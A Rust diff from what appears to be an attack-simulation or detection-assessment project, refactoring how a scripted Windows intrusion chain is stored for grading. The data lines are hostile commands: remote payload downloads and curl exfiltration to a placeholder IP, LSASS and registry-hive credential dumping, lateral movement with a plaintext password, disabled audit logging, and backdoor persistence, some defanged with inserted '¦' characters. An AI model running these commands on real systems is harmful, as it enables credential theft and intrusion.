@@ -4,32 +4,17 @@
 use super::ransom;
 use crate::attack::aftermath::{Aftermath, Left, RegistryChange, Set};
 use crate::attack::shell::Line;
+use crate::program::POWERSHELL;
 use crate::technique::Technique;
 use crate::truth::Weight;
 
-const CMD: &str = "C:\\Windows\\System32\\cmd.exe";
-const POWERSHELL: &str = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe";
 const NET: &str = "C:\\Windows\\System32\\net.exe";
 const NET1: &str = "C:\\Windows\\System32\\net1.exe";
 const SCHTASKS: &str = "C:\\Windows\\System32\\schtasks.exe";
 
-const fn line(
-    technique: Technique,
-    weight: Weight,
-    command: &'static str,
-    programs: &'static [(&'static str, &'static str)],
-) -> Line {
-    Line { technique, weight, shell: CMD, command, programs }
-}
-
-/// A line that an assessment must name, with what it starts.
-const fn must(technique: Technique, command: &'static str, programs: &'static [(&'static str, &'static str)]) -> Line {
-    line(technique, Weight::Must, command, programs)
-}
-
 /// A look around.
 pub(super) const LOOK_AROUND: [Line; 7] = [
-    line(
+    Line::cmd(
         Technique::Discovery,
         Weight::Supporting,
         "cmd.exe /s /c \"net group \"Domain Controllers\" /domain\"",
@@ -38,7 +23,7 @@ pub(super) const LOOK_AROUND: [Line; 7] = [
             (NET1, "C:\\Windows\\system32\\net1  group \"Domain Controllers\" /domain"),
         ],
     ),
-    line(
+    Line::cmd(
         Technique::Discovery,
         Weight::Supporting,
         "cmd.exe /s /c \"gpresult /r /scope computer & klist sessions\"",
@@ -47,13 +32,13 @@ pub(super) const LOOK_AROUND: [Line; 7] = [
             ("C:\\Windows\\System32\\klist.exe", "klist  sessions"),
         ],
     ),
-    line(
+    Line::cmd(
         Technique::Discovery,
         Weight::Supporting,
         "cmd.exe /s /c \"wmic logicaldisk get caption,size,freespace\"",
         &[("C:\\Windows\\System32\\wbem\\WMIC.exe", "wmic  logicaldisk get caption,size,freespace")],
     ),
-    line(
+    Line::cmd(
         Technique::Discovery,
         Weight::Supporting,
         "cmd.exe /s /c \"csvde -f C:\\ProgramData\\Mozilla\\o.csv -r (objectClass=user) -l sAMAccountName,memberOf\"",
@@ -62,19 +47,19 @@ pub(super) const LOOK_AROUND: [Line; 7] = [
             "csvde  -f C:\\ProgramData\\Mozilla\\o.csv -r (objectClass=user) -l sAMAccountName,memberOf",
         )],
     ),
-    line(
+    Line::cmd(
         Technique::Discovery,
         Weight::Supporting,
         "cmd.exe /s /c \"findstr /s /i cpassword \\\\quarry.example.org\\sysvol\\*.xml\"",
         &[("C:\\Windows\\System32\\findstr.exe", "findstr  /s /i cpassword \\\\quarry.example.org\\sysvol\\*.xml")],
     ),
-    line(
+    Line::cmd(
         Technique::Discovery,
         Weight::Supporting,
         "cmd.exe /s /c \"C:\\ProgramData\\Mozilla\\nb.exe -v -s : 10.20.0.0/22\"",
         &[("C:\\ProgramData\\Mozilla\\nb.exe", "C:\\ProgramData\\Mozilla\\nb.exe  -v -s : 10.20.0.0/22")],
     ),
-    line(
+    Line::cmd(
         Technique::Discovery,
         Weight::Supporting,
         "cmd.exe /s /c \"tasklist /fi \"imagename eq lsass.exe\" & vaultcmd /list\"",
@@ -87,17 +72,17 @@ pub(super) const LOOK_AROUND: [Line; 7] = [
 
 /// How tools are brought and hidden.
 pub(super) const BRING: [Line; 4] = [
-    must(
+    Line::must(
         Technique::Download,
         "cmd.exe /s /c \"regsvr¦32 /s /n /u /i:http://203.0.113.77/fx.sct scr¦obj.dll\"",
         &[("C:\\Windows\\System32\\regsvr32.exe", "regsvr¦32  /s /n /u /i:http://203.0.113.77/fx.sct scr¦obj.dll")],
     ),
-    must(
+    Line::must(
         Technique::Download,
         "cmd.exe /s /c \"(echo open 203.0.113.77& echo user fx fx& echo binary& echo mget *.dll& echo bye)>C:\\ProgramData\\Mozilla\\i.t & ftp -n -i -s:C:\\ProgramData\\Mozilla\\i.t\"",
         &[("C:\\Windows\\System32\\ftp.exe", "ftp  -n -i -s:C:\\ProgramData\\Mozilla\\i.t")],
     ),
-    must(
+    Line::must(
         Technique::HiddenFile,
         "cmd.exe /s /c \"type C:\\ProgramData\\Mozilla\\mozsqlite.dll > C:\\ProgramData\\Mozilla\\profiles.ini:sig\"",
         &[],
@@ -113,7 +98,7 @@ pub(super) const BRING: [Line; 4] = [
 
 /// How credentials are taken.
 pub(super) const TAKE: [Line; 4] = [
-    must(
+    Line::must(
         Technique::CredentialDump,
         "cmd.exe /s /c \"C:\\ProgramData\\Mozilla\\create¦dump.exe -u -f C:\\ProgramData\\Mozilla\\cr.mdmp 648\"",
         &[(
@@ -121,7 +106,7 @@ pub(super) const TAKE: [Line; 4] = [
             "C:\\ProgramData\\Mozilla\\create¦dump.exe  -u -f C:\\ProgramData\\Mozilla\\cr.mdmp 648",
         )],
     ),
-    must(
+    Line::must(
         Technique::CredentialDump,
         "cmd.exe /s /c \"rdr¦leakdiag.exe /p 648 /o C:\\ProgramData\\Mozilla /full¦memdmp /wait 1\"",
         &[(
@@ -129,7 +114,7 @@ pub(super) const TAKE: [Line; 4] = [
             "rdr¦leakdiag.exe  /p 648 /o C:\\ProgramData\\Mozilla /full¦memdmp /wait 1",
         )],
     ),
-    must(
+    Line::must(
         Technique::CredentialDump,
         "cmd.exe /s /c \"wmic shadow¦copy call create Volume='C:\\' & mklink /d C:\\ProgramData\\Mozilla\\v \\\\?\\GLOBAL¦ROOT\\Device\\HarddiskVolumeShadow¦Copy7\\ & xcopy /y C:\\ProgramData\\Mozilla\\v\\Windows\\System32\\config\\SECURITY C:\\ProgramData\\Mozilla\\\"",
         &[
@@ -140,7 +125,7 @@ pub(super) const TAKE: [Line; 4] = [
             ),
         ],
     ),
-    must(
+    Line::must(
         Technique::CredentialDump,
         "cmd.exe /s /c \"C:\\ProgramData\\Mozilla\\la¦zagne.exe all -oN -quiet\"",
         &[("C:\\ProgramData\\Mozilla\\lazagne.exe", "C:\\ProgramData\\Mozilla\\la¦zagne.exe  all -oN -quiet")],
@@ -149,7 +134,7 @@ pub(super) const TAKE: [Line; 4] = [
 
 /// Steps to the servers beside, and ways through.
 pub(super) const GO_ON: [Line; 5] = [
-    must(
+    Line::must(
         Technique::LateralMove,
         "cmd.exe /s /c \"winrs -r:QRY-FS01 -u:QUARRY\\svc-sccm -p:Kestrel#77 \"cmd /c C:\\Windows\\Temp\\fx\\pingsender.exe\"\"",
         &[(
@@ -157,7 +142,7 @@ pub(super) const GO_ON: [Line; 5] = [
             "winrs  -r:QRY-FS01 -u:QUARRY\\svc-sccm -p:Kestrel#77 \"cmd /c C:\\Windows\\Temp\\fx\\pingsender.exe\"",
         )],
     ),
-    must(
+    Line::must(
         Technique::LateralMove,
         "cmd.exe /s /c \"sch¦tasks /create /s QRY-DC02 /u QUARRY\\svc-sccm /p Kestrel#77 /ru SYSTEM /sc once /st 03:10 /tn FxPing /tr C:\\Windows\\Temp\\fx\\pingsender.exe\"",
         &[(
@@ -165,7 +150,7 @@ pub(super) const GO_ON: [Line; 5] = [
             "sch¦tasks  /create /s QRY-DC02 /u QUARRY\\svc-sccm /p Kestrel#77 /ru SYSTEM /sc once /st 03:10 /tn FxPing /tr C:\\Windows\\Temp\\fx\\pingsender.exe",
         )],
     ),
-    must(
+    Line::must(
         Technique::Tunnel,
         "cmd.exe /s /c \"netsh interface port¦proxy add v4tov4 listenport=8531 listenaddress=0.0.0.0 connectport=3389 connectaddress=10.20.2.10\"",
         &[(
@@ -173,7 +158,7 @@ pub(super) const GO_ON: [Line; 5] = [
             "netsh  interface port¦proxy add v4tov4 listenport=8531 listenaddress=0.0.0.0 connectport=3389 connectaddress=10.20.2.10",
         )],
     ),
-    must(
+    Line::must(
         Technique::Tunnel,
         "cmd.exe /s /c \"start /b C:\\ProgramData\\Mozilla\\updater.exe -c C:\\ProgramData\\Mozilla\\updater.ini\"",
         &[(
@@ -181,7 +166,7 @@ pub(super) const GO_ON: [Line; 5] = [
             "C:\\ProgramData\\Mozilla\\updater.exe  -c C:\\ProgramData\\Mozilla\\updater.ini",
         )],
     ),
-    must(
+    Line::must(
         Technique::AuditPolicy,
         "cmd.exe /s /c \"audit¦pol /set /category:\"Logon/Logoff\" /success:dis¦able /failure:dis¦able\"",
         &[(
@@ -193,7 +178,7 @@ pub(super) const GO_ON: [Line; 5] = [
 
 /// How what is to be carried off is packed and sent.
 pub(super) const PACK: [Line; 3] = [
-    must(
+    Line::must(
         Technique::StagedArchive,
         "cmd.exe /s /c \"C:\\ProgramData\\Mozilla\\igfxtray.exe a -ep1 -k -inul -hpm0z!la -v300m -x*.exe C:\\ProgramData\\Mozilla\\thumbs.dat @C:\\ProgramData\\Mozilla\\l.txt\"",
         &[(
@@ -208,7 +193,7 @@ pub(super) const PACK: [Line; 3] = [
         command: "powershell.exe -c \"Add-Type -A System.IO.Compression.FileSystem; [IO.Compression.Zip¦File]::CreateFrom¦Directory('C:\\ProgramData\\Mozilla\\out','DIR\\15.1.2044\\themes\\resources\\lgnexlogo.png')\"",
         programs: &[],
     },
-    must(
+    Line::must(
         Technique::WebExfiltration,
         "cmd.exe /s /c \"C:\\ProgramData\\Mozilla\\curl.exe -s -T C:\\ProgramData\\Mozilla\\thumbs.part1.dat ftp://fx:fx@203.0.113.77/q/\"",
         &[(
@@ -220,7 +205,7 @@ pub(super) const PACK: [Line; 3] = [
 
 /// How they come back: a service that was there is bent, a job waits, an account is woken, a module is loaded.
 pub(super) const STAY: [Line; 5] = [
-    must(
+    Line::must(
         Technique::NewService,
         "cmd.exe /s /c \"sc con¦fig AppMgmt binPath= \"C:\\ProgramData\\Mozilla\\pingsender.exe --svc\" start= auto\"",
         &[(
@@ -228,7 +213,7 @@ pub(super) const STAY: [Line; 5] = [
             "sc  con¦fig AppMgmt binPath= \"C:\\ProgramData\\Mozilla\\pingsender.exe --svc\" start= auto",
         )],
     ),
-    must(
+    Line::must(
         Technique::Download,
         "cmd.exe /s /c \"bits¦admin /create fxsync & bits¦admin /addfile fxsync http://203.0.113.77/fx.cab C:\\ProgramData\\Mozilla\\fx.cab & bits¦admin /SetNotify¦CmdLine fxsync C:\\ProgramData\\Mozilla\\pingsender.exe NUL & bits¦admin /resume fxsync\"",
         &[
@@ -243,7 +228,7 @@ pub(super) const STAY: [Line; 5] = [
             ),
         ],
     ),
-    must(
+    Line::must(
         Technique::NewAccount,
         "cmd.exe /s /c \"net user DefaultAccount Fx_2021¦!ping /active:yes\"",
         &[
@@ -251,7 +236,7 @@ pub(super) const STAY: [Line; 5] = [
             (NET1, "C:\\Windows\\system32\\net1  user DefaultAccount Fx_2021¦!ping /active:yes"),
         ],
     ),
-    must(
+    Line::must(
         Technique::GroupChange,
         "cmd.exe /s /c \"net localgroup Administrators DefaultAccount /add\"",
         &[
